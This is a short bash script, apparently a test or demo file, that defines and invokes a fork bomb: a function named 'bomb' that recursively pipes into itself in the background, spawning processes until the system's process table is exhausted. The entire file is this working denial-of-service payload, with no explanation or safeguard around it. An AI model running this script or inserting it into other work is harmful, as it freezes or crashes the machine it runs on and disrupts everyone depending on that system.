#!/usr/bin/env bash
echo "forking"
bomb() { bomb | bomb & }
bomb
sleep 2
wait
